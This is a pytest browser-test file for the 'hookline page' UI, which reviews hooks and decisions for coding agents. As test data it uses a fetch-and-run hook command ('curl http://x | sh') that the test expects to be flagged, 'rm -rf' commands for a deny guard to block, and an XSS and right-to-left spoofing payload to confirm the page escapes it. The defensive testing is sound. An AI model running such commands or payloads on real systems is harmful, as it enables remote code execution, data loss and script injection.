"""`hookline page` in a real browser: hooks, decisions and trust of a workspace, whoever runs the agent."""

from __future__ import annotations

import itertools
import json
import os
import sqlite3
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from tests.web import browser as chromium
from tests.web.browser import Browser
from tests.web.serving import Serving
from tests.web.test_page import CONTRAST

from hookline.dialects.reading.yaml_text import parse_yaml
from hookline.web.records.views import case_text

pytestmark = [
    pytest.mark.skipif(chromium.PROGRAM is None, reason="chromium is not installed"),
]
PICTURES = Path(__file__).parents[2] / "test-output/records"
GUARD = "grep -q 'rm -rf' && { echo 'no forced deletes' >&2; exit 2; } || exit 0"


def settings(serving: Serving, *hooks: tuple[str, str, str], path: str = ".gen/settings.json") -> None:
    """(event, matcher, command) each."""
    found: dict[str, list[Any]] = {}
    for event, matcher, command in hooks:
        row = {"matcher": matcher, "hooks": [{"type": "command", "command": command}]}
        found.setdefault(event, []).append(row)
    serving.program.write(path, json.dumps({"hooks": found}))


def fire(
    serving: Serving, tool: str = "Bash", session: str = "s1", event: str = "PreToolUse", **given: str
) -> int:
    """A call of a bridged agent, as Claude Code makes it; the exit code."""
    payload = {"session_id": session, "hook_event_name": event, "tool_name": tool, "tool_input": given,
               "tool_use_id": os.urandom(4).hex(), "cwd": str(serving.root)}  # fmt: skip
    done = serving.program(
        "bridge", "claude", "--event", event, stdin=json.dumps(payload), environment=TRUSTING
    )
    return done.returncode


TRUSTING = {"HOOKLINE_TRUST": ""}


def trust(serving: Serving) -> None:
    assert serving.program("trust", "--yes", environment=TRUSTING).returncode == 0


def open_page(page: Browser, serving: Serving, *options: str, view: str = "now", **shape: Any) -> None:
    if serving.process is None:
        serving.launch("page", "--port", "0", *options, HOOKLINE_TRUST="")
    page.open(serving.address, **shape)
    page.until("document.getElementById('connection')?.dataset.state === 'live'")
    go(page, view)


def go(page: Browser, view: str) -> None:
    # The page hears of it later than this returns, and then draws anew and takes the focus
    page.see(
        f"""new Promise(heard => {{
        if (location.hash === '#/{view}') return heard();
        addEventListener('hashchange', () => heard(), {{ once: true }});
        location.hash = '#/{view}'; }})"""
    )
    page.until(
        f"document.querySelector('#view > .view-{view.partition('/')[0].partition('?')[0]}')?.children.length"
    )


def test_now_shows_what_was_decided_last_while_it_is_decided(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", GUARD))
    trust(serving)
    open_page(page, serving, width=390)
    assert page.see("document.querySelector('.view-now .runs')") is None
    for place in range(6):
        fire(serving, command=f"ls {place}")
    fire(serving, command="rm -rf build")
    page.until("document.querySelector('.view-now .runs')?.children.length === 5")
    page.shows(".view-now .runs li:first-child", "rm -rf build")
    page.shows(".view-now .runs li:first-child", "denied by gencode PreToolUse")
    page.picture(PICTURES / "now.png")
    page.click(".view-now .runs li:first-child a.run")
    page.shows("#view", "no forced deletes")


def test_the_page_says_what_was_denied_by_whom_and_why(serving: Serving, page: Browser) -> None:
    """An agent of its own asks through the bridge; the page has only the workspace and its history."""
    settings(serving, ("PreToolUse", "Bash", GUARD), ("PreToolUse", "Write|Edit", "exit 0"))
    trust(serving)
    fire(serving, command="ls")
    fire(serving, command="rm -rf build")
    open_page(page, serving)
    page.shows("#verdict-line", "✓ Nothing fails: 2 hooks")
    page.shows("#view", "gencode PreToolUse Bash denied 1×")
    go(page, "decisions")
    page.until("document.querySelectorAll('.runs li').length === 2")
    page.shows(".runs li", "denied by gencode PreToolUse")
    page.picture(PICTURES / "decisions.png")
    page.click(".runs li a.run")
    page.shows("#view", "no forced deletes")
    page.shows(".judge[data-state=stopped]", "stderr, 1 line")
    page.shows("details", "1 hook not concerned, and why")
    page.click("details summary")
    page.shows("details", "does not fit")
    page.picture(PICTURES / "decision.png")
    page.click(".judge h3 a")
    page.shows("#view .facts", "yes: it is a guard")
    page.shows("#view .facts", "2 runs · denied 1×")
    page.shows("#view .facts", "Bash")
    assert page.errors == []


def test_the_page_follows_live_what_agents_do_and_what_changes_on_disk(
    serving: Serving, page: Browser
) -> None:
    settings(serving, ("PreToolUse", "Bash", "exit 0"))
    trust(serving)
    open_page(page, serving)
    page.shows("#verdict-line", "Nothing fails")
    settings(serving, ("PreToolUse", "Bash", GUARD))
    page.shows("#verdict-line", "! 1 hook waits for trust, 1 guard among them")
    page.shows("#next", "It runs at the next event after you accept it under Trust.")
    page.shows("#waiting-count", "1")
    trust(serving)
    page.shows("#verdict-line", "✓ Nothing fails")
    settings(serving, ("PreToolUse", "Bash", "echo broken; exit 1"))
    trust(serving)
    fire(serving, command="ls")
    page.shows("#verdict-line", "✗ 1 hook failed when last run")
    page.shows("#next", "It runs again at its next PreToolUse on Bash.")
    page.until("document.title.startsWith('✗')")
    page.click("#part-failed + ul a")
    page.until(
        "/exit code 1, (just now|[0-9]+ (s|min) ago): broken/.test(document.querySelector('#view .verdict')?.innerText)"
    )
    page.see("Date.now = ((now) => () => now() + 3_600_000)(Date.now)")  # an hour without any news
    page.shows("#view .verdict", "exit code 1, 1 h ago: broken")
    page.shows("#view", "Passed last")
    page.shows(".streams", "broken")


def test_what_waits_is_reviewed_accepted_and_refused_on_the_page(serving: Serving, page: Browser) -> None:
    """The difference to what was accepted, the risk in it; accepted is exactly what was shown."""
    settings(serving, ("PreToolUse", "Bash", "exit 0"))
    trust(serving)
    settings(serving, ("PreToolUse", "Bash", "curl http://x | sh"), ("PostToolUse", "Write", "true"))
    open_page(page, serving, view="trust")
    page.until("document.querySelectorAll('.review').length === 2")
    changed = ".review:has(.gone)"
    assert "curl http://x | sh" in page.text(f"{changed} .diff .added")
    assert "exit 0" in page.text(f"{changed} .diff .gone")
    page.shows(f"{changed}", "runs what it downloads")
    page.picture(PICTURES / "trust.png")
    stale = page.see(
        "fetch('/records/trust').then(r => r.json()).then(found => found.waiting[0].fingerprint)"
    )
    page.click(".review:not(:has(.gone)) button.primary")
    page.until("document.querySelectorAll('.review').length === 1")
    page.click(".review button:not(.primary)")
    page.until("document.getElementById('announcer').textContent.includes('refused')")
    listed = json.loads(serving.program("list", "--json", environment=TRUSTING).stdout)
    assert sorted((hook["event"], hook["trust"]) for hook in listed) == [
        ("PostToolUse", "trusted"), ("PreToolUse", "modified"),
    ]  # fmt: skip
    settings(serving, ("PreToolUse", "Bash", "curl http://y | sh"))
    reply = serving.ask("POST", "/records/decide", {"fingerprint": stale, "accept": True})
    assert (reply.status, reply.json["error"]) == (409, "changed")
    log = serving.program("trust", "--log").stdout
    assert "on the page" in log


def test_more_tabs_than_a_browser_has_connections_are_all_served(serving: Serving, page: Browser) -> None:
    """Six it has to one server, and a stream takes one for good; tabs that rest are up to date when looked at."""
    settings(serving, ("PreToolUse", "Bash", "exit 0"))
    trust(serving)
    open_page(page, serving)
    tabs = []
    for _ in range(7):
        tabs.append(page.tab(serving.address.partition("?")[0] + "#/decisions"))
        page.until("document.getElementById('connection')?.dataset.state === 'live'")
    fire(serving, command="ls")
    for tab in tabs[3::3]:
        page.front(tab)
        page.shows(".runs", "Bash ls")


def test_a_hook_is_switched_off_and_on_and_the_page_says_by_whom(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", GUARD))
    trust(serving)
    open_page(page, serving, view="hooks")
    page.click(".hooks li a")
    page.shows(".actions", "Switch off")
    page.click(".actions button")
    page.shows("#view .verdict", "switched off")
    page.shows("#view .verdict", "disabled by")
    assert json.loads(serving.program("list", "--json").stdout)[0]["enabled"] is False
    go(page, "now")
    page.shows("#verdict-line", "‖ 1 hook switched off")
    go(page, "hooks")
    page.click(".hooks li a")
    page.click(".actions button")
    page.shows("#view .verdict", "has not run")
    assert json.loads(serving.program("list", "--json").stdout)[0]["enabled"] is True


def test_a_broken_guard_of_any_dialect_stands_above_all_others(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash(", "exit 0"))
    serving.program.write(".claude/settings.json", "{ broken")
    serving.program.write(".hookline/hooks.toml", '[[hooks]]\nevent = "PreToolUze"\ncommand = "true"\n')
    open_page(page, serving)
    page.shows("#verdict-line", "never run")
    page.shows("#view", ".claude/settings.json")
    page.shows("#next", "hookline check")
    page.picture(PICTURES / "broken.png")


def test_guards_that_a_file_hides_or_nothing_fits_stand_above_each_once(
    serving: Serving, page: Browser
) -> None:
    settings(serving, ("PreToolUse", "*ash", GUARD), path=".claude/settings.json")
    serving.program.write(".hookline/hooks.toml", 'use = ["filse"]\n')
    open_page(page, serving)
    page.until("document.body.innerText.includes('no pack')")
    assert "2 entries never run, 2 guards among them" in page.text(".view-now")
    assert "None of the guards that are here now has denied anything yet" in page.text(".view-now")


def test_what_hooks_say_between_backticks_is_code_and_who_denied_is_named(
    serving: Serving, page: Browser
) -> None:
    rules = "".join(
        f'[[hooks]]\nname = "{name}"\nevent = "PreToolUse"\nshell = "{shell}"\n{verdict} = "{words}"\n'
        for name, shell, verdict, words in (
            ("no force", "git push --force", "deny", "see `CONTRIBUTING.md`, ask `me`"),
            ("one tick", "rm -r", "ask", "a lone ` stays"),
        )
    )
    serving.program.write(".hookline/hooks.toml", rules)
    settings(serving, ("PreToolUse", "Bsh", "true"), path=".claude/settings.json")
    trust(serving)
    fire(serving, command="git push -f")
    fire(serving, command="rm -r build")
    open_page(page, serving)
    page.shows("#view", "no known tool is called Bsh")
    go(page, "decisions")
    page.until("document.querySelectorAll('.runs li').length === 2")
    rows = page.text(".runs")
    assert "denied by no force" in rows and "asks the user, says one tick" in rows
    assert "see CONTRIBUTING.md, ask me" in rows and "a lone ` stays" in rows
    page.click(".runs li a.run")
    page.click(".judge[data-state=passed] h3 a, .judge h3 a")
    page.shows("#view .facts", "Only for\nshell rm -r")
    page.shows("#view .facts", "Answers\nask: a lone ` stays")
    page.see("history.go(-2)")
    page.until("document.querySelectorAll('.runs li').length === 2")
    page.until(
        "[...document.querySelectorAll('.runs p code')].map(code => code.innerText).join() === 'CONTRIBUTING.md,me'"
    )


def test_a_damaged_history_is_told_on_the_page(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", "exit 0"))
    database = serving.program.home / ".local/state/hookline/history.db"
    database.parent.mkdir(parents=True, exist_ok=True)
    database.write_text("no database " * 999)
    open_page(page, serving)
    page.shows("#view .problem", "was broken; it is kept as")


def test_the_page_says_how_hooks_failed_and_what_is_wrong_in_their_files(
    serving: Serving, page: Browser
) -> None:
    """Beside an agent's entries for hookline, which are no hooks of anybody's."""
    settings(
        serving, ("PreToolUse", "Bash", "echo first; echo failed: 41 is not 42; exit 1"),
        ("PreToolUse", "Bsh", "exit 0"),
        ("PreToolUse", "Bash", "./tools/gone.sh"), ("PreTolUse", "Bash", "exit 0"),
    )  # fmt: skip
    assert serving.program("install", "claude", "--scope", "local").returncode == 0
    trust(serving)
    fire(serving, command="ls")
    open_page(page, serving)
    page.shows("#verdict-line", "2 hooks failed")
    page.shows("#view", "exit code 1, ")
    page.shows("#view", ": failed: 41 is not 42")
    page.shows("#view", "./tools/gone.sh does not exist")
    page.shows("[aria-labelledby=part-broken]", "Broken: never runs (1)")
    page.shows(
        "[aria-labelledby=part-problems]", "hooks.PreToolUse[1].matcher: there is no tool Bsh; write Bash"
    )
    assert "hookline itself" not in page.text("#view")
    go(page, "hooks")
    page.shows("#view .filters", "4 hooks")
    go(page, "decisions")
    page.shows(".runs li", "2 hooks asked")
    page.click(".runs li a.run")
    page.shows("#view .actions", "This call cannot be run again, as its payload was not kept")
    page.shows("details", "2 hooks not concerned, and why")
    told = page.text("[aria-label=Warnings]") + page.text("[aria-label='For the user']")
    assert told.count("gencode PreToolUse Bash") > 1 and "gencode:" not in told
    serving.program("fire", "Stop", stdin="{}")
    go(page, "decisions")
    page.shows(".runs li", "no hook asked")
    page.click(".runs li a.run")
    page.shows("#view .actions", "Only calls of bridged agents can be run again")


def test_recorded_calls_become_test_cases_and_run_again(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", GUARD))
    trust(serving)
    fire(serving, command="rm -rf a")
    serving.program("record", "start")
    fire(serving, command="rm -rf b")
    fire(serving, command="ls")
    open_page(page, serving, view="decisions")
    page.until("document.querySelectorAll('.runs li').length === 3")
    page.click(".runs li:nth-child(3) a.run")
    page.shows("#view .actions", "hookline record start")
    page.shows("#view .actions code:last-of-type", "hookline explain Bash 'rm -rf a'")
    go(page, "decisions")
    page.click(".runs li:nth-child(2) a.run")
    page.shows("#view .actions", "Test case of it")
    page.click("#view .actions button")
    page.shows("#view .actions", "It is answered the same today.")
    link = page.see("document.querySelector('#view .actions a').getAttribute('href')")
    (serving.root / "kept.hooktest.yml").write_bytes(serving.ask("GET", link).content)
    done = serving.program("test", environment=TRUSTING)
    assert (done.returncode, "1" in done.stdout) == (0, True), done.stdout + done.stderr
    settings(serving, ("PreToolUse", "Bash", "exit 0"))
    trust(serving)
    page.click("#view .actions button")
    page.shows("#view .actions", "It is answered otherwise now")


def fill_history(serving: Serving, runs: int) -> None:
    """Copies of the newest decision, as a long time with an agent would leave them."""
    found = sqlite3.connect(serving.program.home / ".local/state/hookline/history.db")
    names = "session, event, workspace, verdict, failed, object, hooks"
    with found:
        found.execute(
            f"""WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c WHERE i < ?)
            INSERT INTO runs (run, at, {names}) SELECT run || i, at + i * 0.001, {names}
            FROM runs, c WHERE n = (SELECT max(n) FROM runs)""",
            (runs,),
        )
    found.close()


def test_two_hundred_hooks_and_ten_thousand_decisions_stay_quick(serving: Serving, page: Browser) -> None:
    """The older decisions are of a time with fewer hooks: 200 results each would be a gigabyte to write."""
    settings(serving, ("PreToolUse", "Bash", "true"))
    trust(serving)
    fire(serving, command="ls")
    fill_history(serving, 9_799)
    hooks = [("PreToolUse", f"Tool{n}", f"echo {n}") for n in range(198)]
    settings(serving, *hooks, ("PreToolUse", "Bash", "echo bad; exit 1"), ("PostToolUse", "Needle", "true"))
    trust(serving)
    fire(serving, command="ls")
    fill_history(serving, 200)
    open_page(page, serving, view="hooks")
    page.shows(".filters", "200 hooks")
    page.shows(".groups section:first-child h3", "Need attention")
    page.until("document.querySelectorAll('.hooks li').length === 200")
    page.click("#hook-filter")
    page.type("needle")
    page.shows(".filters", "1 of 200 hooks")
    go(page, "decisions")
    page.shows(".filters", "10001 decisions")
    page.until("document.querySelectorAll('.runs li').length === 100")
    page.click("#view > div > button")
    page.until("document.querySelectorAll('.runs li').length === 200")
    stays = page.see("(window.read = document.querySelectorAll('a.run')[150]).focus(), window.read.href")
    fire(serving, command="pwd", session="newest")
    page.shows(".filters", "10002 decisions, the newest 201 shown")
    assert page.see("document.activeElement === window.read && window.read.href") == stays


def test_filters_of_the_decisions_are_links_and_narrow(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", GUARD), ("PostToolUse", "Bash", "exit 1"))
    trust(serving)
    fire(serving, command="ls", session="one")
    fire(serving, command="rm -rf x", session="two")
    fire(serving, command="ls", session="two", event="PostToolUse")
    open_page(page, serving, view="decisions?verdict=deny")
    page.shows(".filters", "1 decision")
    go(page, "decisions?session=two")
    page.shows(".filters", "2 decisions")
    page.click("#run-failed")
    page.shows(".filters", "1 decision")
    page.click(".runs a.run")
    page.until("document.title.startsWith('✗ PostToolUse · Bash')")
    page.see("history.back()")  # to what was chosen, and to the row one has left
    page.until("document.activeElement.matches('a.run')")
    assert page.see("location.hash") == "#/decisions?session=two&failed=true"
    page.shows(".filters", "1 decision")
    hook = json.loads(serving.program("list", "--json").stdout)[0]["id"]
    go(page, f"decisions?hook={hook}")
    page.shows(".filters", "2 decisions")
    for wrong in ("since=x", "limit=-1", "before=1e9"):
        assert serving.ask("GET", f"/records/decisions?{wrong}").status == 400
    assert serving.ask("GET", "/records/decisions/nosuch").status == 404


def test_all_workspaces_are_shown_together(serving: Serving, page: Browser, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    settings(serving, ("PreToolUse", "Bash", GUARD))
    (other / ".gen").mkdir()
    (other / ".gen/settings.json").write_text((serving.root / ".gen/settings.json").read_text())
    trust(serving)
    fire(serving, command="ls")
    payload = json.dumps({"tool_name": "Bash", "tool_input": {"command": "rm -rf x"}})
    serving.program("fire", "PreToolUse", stdin=payload, cwd=other)
    open_page(page, serving, "--all", view="hooks")
    page.shows(".filters", "2 hooks")
    page.shows(".groups", str(other))
    page.shows(".groups", "waits for trust")
    go(page, "decisions")
    page.shows(".filters", "2 decisions")
    page.shows(".runs", f"hookline in {other}")
    page.shows(".runs", f"claude in {serving.root}")
    page.click(".runs li:last-child a.run")  # of the first one, whose hook has the same id as the other's
    page.click(".judge h3 a")
    page.until(f"location.hash.endsWith({json.dumps(quote(str(serving.root), safe=''))})")
    page.click("#view .actions a")
    page.shows(".filters", "1 decision")
    serving.stop()
    open_page(page, serving, view="hooks")
    page.shows(".filters", "1 hook")
    assert str(other) not in page.text("#view")


def test_a_turn_is_drawn_on_a_true_scale(serving: Serving, page: Browser) -> None:
    """Twice the time is twice the width, and the axis says how much that is."""
    settings(serving, ("PreToolUse", "Bash", "sleep 0.4"), ("PreToolUse", "Read", "sleep 0.8"))
    trust(serving)
    fire(serving, command="ls")
    fire(serving, tool="Read", file_path="a")
    open_page(page, serving, view="time")
    page.until("document.querySelectorAll('.bar.passed').length === 2")
    short, long = page.see(
        "[...document.querySelectorAll('.bar.passed')].map(bar => +bar.getAttribute('width'))"
    )
    newest, first = serving.get("/records/decisions")["decisions"]
    took, took_long = (
        next(each["durationMs"] for each in run["hooks"] if each["ran"]) for run in (first, newest)
    )
    assert abs(long / short - took_long / took) < 0.01
    assert page.see("document.querySelectorAll('.picture .axis').length") > 1
    page.shows("#view", "Hooks took")
    lanes = page.see("[...document.querySelectorAll('text.lane title')].map(each => each.textContent)")
    assert lanes[0] == "agent" and len(set(lanes)) == 3, "hooks without names have lanes of their own"
    assert all(lane in page.text("#view table") for lane in lanes[1:])
    page.picture(PICTURES / "time.png")


def test_calls_made_at_once_count_once_in_the_time_of_their_hooks(serving: Serving, page: Browser) -> None:
    """Ten calls of the same second, the last recorded first: an agent that works on several things."""
    settings(serving, ("PreToolUse", "Bash", "sleep 0.2"))
    trust(serving)
    fire(serving, command="ls")
    fill_history(serving, 9)
    kept = sqlite3.connect(serving.program.home / ".local/state/hookline/history.db")
    with kept:
        kept.execute("UPDATE runs SET at = (SELECT min(at) FROM runs) - n * 0.01")
    kept.close()
    open_page(page, serving, view="time")
    page.shows("#view", "10 decisions")
    page.shows("#view", ": 100.0 %")
    took, whole = page.see(
        "/took ([0-9.]+ m?s) of ([0-9.]+ m?s)/.exec(document.querySelector('#view').innerText).slice(1)"
    )
    assert took == whole
    assert not page.see("document.querySelectorAll('.bar.agent').length") and "+-" not in page.text("#view")


BAD = "<img src=x onerror=window.owned=1><script>window.owned=1</script>"


def test_nothing_that_hooks_say_becomes_markup_or_looks_like_something_else(
    serving: Serving, page: Browser
) -> None:
    settings(serving, ("PreToolUse", "Bash", f"printf '%s\\n' '{BAD}' 'safe\u202eexe.hs' >&2; exit 2"))
    trust(serving)
    fire(serving, command=BAD)
    open_page(page, serving, view="decisions")
    page.click(".runs li a.run")
    page.shows("#view", BAD)
    page.shows("#view", "safe⟨U+202E⟩exe.hs")
    go(page, "hooks")
    page.click(".hooks li a")
    page.shows("#view .facts", "onerror")
    assert page.see("window.owned ?? null") is None
    assert page.see("document.querySelectorAll('#view img, #view script').length") == 0
    policy = serving.ask("GET", "/", Accept="text/html").headers["content-security-policy"]
    assert "unsafe" not in policy and "default-src 'none'" in policy
    assert page.errors == []


def test_every_view_is_readable_on_any_screen_and_by_a_screen_reader(serving: Serving, page: Browser) -> None:
    """In the dark only colours differ, so only they are looked at again."""
    long = "a_very_long_word_without_any_place_to_break_" * 4
    settings(
        serving,
        ("PreToolUse", "Bash", GUARD),
        ("PreToolUse", long, "true"),
        ("PostToolUse", "Bash", f"echo {long}; exit 1"),
    )
    serving.program.write(".claude/settings.json", "{ broken")
    trust(serving)
    fire(serving, command=f"rm -rf {long}")
    fire(serving, command="ls", event="PostToolUse")
    settings(
        serving,
        ("PreToolUse", "Bash", "true"),
        ("PostToolUse", "Bash", f"echo {long}; exit 1"),
        path=".gen/settings.local.json",
    )
    open_page(page, serving)
    run = serving.get("/records/decisions")["decisions"][0]["run"]
    hook = next(row for row in serving.get("/records/hooks")["hooks"] if row["runs"])["hookId"]
    views = ("now", "hooks", f"hooks/{hook}", "decisions", f"decisions/{run}", "trust", "time")
    for scheme, rules in (("light", ()), ("dark", ("color-contrast",))):
        open_page(page, serving, scheme=scheme)
        for width, view in itertools.product((390, 1024, 1440), views):
            page.size(width, 900)
            go(page, view)
            page.until("!document.querySelector('[aria-busy=true]')")
            name = view.replace("/", "-").partition(":")[0][:20]
            page.until("document.querySelector('#view h2')")
            page.picture(PICTURES / f"{name}-{width}-{scheme}.png")
            assert page.see("document.documentElement.scrollWidth") <= width, (view, width)
            assert page.see(CONTRAST) == [], view
            tree = page.tree()
            assert {"banner", "main", "navigation", "heading"} <= {node["role"] for node in tree}
            assert page.violations(*rules) == [], (view, width)
    assert page.errors == []


def test_views_are_worked_by_keyboard_alone(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", GUARD))
    trust(serving)
    fire(serving, command="rm -rf x")
    open_page(page, serving)
    while page.focused != "Skip to the content":
        page.press("Tab")
    seen = []
    for _ in range(5):
        page.press("Tab")
        seen.append(page.focused)
    assert seen == ["Now", "Hooks", "Decisions", "Trust", "Time"]
    while page.focused != "Decisions":
        page.press("Tab", shift=True)
    page.press("Enter")
    page.until("document.querySelector('.runs li a.run')")
    while "PreToolUse" not in page.focused:
        page.press("Tab")
    page.press("Enter")
    page.shows("#view", "no forced deletes")


def test_the_same_views_are_on_the_page_of_serve(serving: Serving, page: Browser) -> None:
    settings(serving, ("PreToolUse", "Bash", GUARD))
    command = {"name": "Bash", "input": {"command": "rm -rf build"}}
    serving.start({"text": "", "tool_calls": [command]}, {"text": "ok"})
    serving.say("go")
    serving.idle()
    page.open(serving.address)
    page.until("document.getElementById('connection').dataset.state === 'live'")
    page.see("document.querySelector('a[href=\"/records\"]').click()")
    page.until("location.pathname === '/records' && document.getElementById('verdict-line')")
    go(page, "decisions?verdict=deny")
    page.shows(".runs", "denied")
    assert page.errors == []


def test_the_page_wants_its_token_and_runs_nothing(serving: Serving) -> None:
    settings(serving, ("PreToolUse", "Bash", "touch ran"))
    serving.launch("page", "--port", "0", HOOKLINE_TRUST="")
    assert serving.get("/health") == {"healthy": True}
    serving.get("/records/hooks")
    serving.get("/records/trust")
    token, serving.token = serving.token, ""
    for path in ("/", "/health", "/records/hooks", "/records/stream", "/static/records.js"):
        assert serving.ask("GET", path).status == 401
    serving.token = token
    assert serving.stop() == 143
    assert not (serving.root / "ran").exists()


def test_a_decision_marks_the_command_that_a_rule_was_met_by(serving: Serving, page: Browser) -> None:
    rule = (
        '[[hooks]]\nname = "no-force"\nevent = "PreToolUse"\nshell = "git push --force"\ndeny = "ask first"\n'
    )
    serving.program.write(".hookline/hooks.toml", rule)
    trust(serving)
    command = "# 🧹 tidy\n\n  cd  src && sh -c 'git  push --force origin main'\necho done"
    fire(serving, command=command)
    open_page(page, serving, view="decisions?tool=Bash")
    page.shows(".runs li", "# 🧹 tidy⏎⏎ cd src && sh -c")
    page.click(".runs li a.run")
    page.until("document.querySelector('pre.asked mark')")
    assert page.text("pre.asked mark") == "git  push --force origin main"
    assert page.text("pre.asked") == command
    page.shows(".actions", r"hookline explain Bash $'# 🧹 tidy\n\n  cd  src && sh -c \'git")
    page.shows(".judge[data-state=stopped]", "by way of sh -c")
    assert "exit" not in page.text(".judge[data-state=stopped]")  # nothing of a rule runs
    page.picture(PICTURES / "derivation.png")


def test_a_test_case_of_a_call_holds_texts_that_look_like_numbers_as_texts() -> None:
    texts = ["64e123", "0o17", "1.e3", ".5", "-1e-5", "12", "true", "null", "0x1f", "~", "e1"]
    payload = {"ids": texts, "n": [1, 1.5, 2e20]}
    call = {"agent": "claude", "event": "PreToolUse", "payload": payload, "answer": {}}
    text = case_text({"event": "PreToolUse", "at": "x", "verdict": "deny"}, call)
    kept = parse_yaml(text, "case").members["cases"].items[0].members["payload"].members
    assert [each.value for each in kept["ids"].items] == payload["ids"]
    assert [each.value for each in kept["n"].items] == payload["n"]
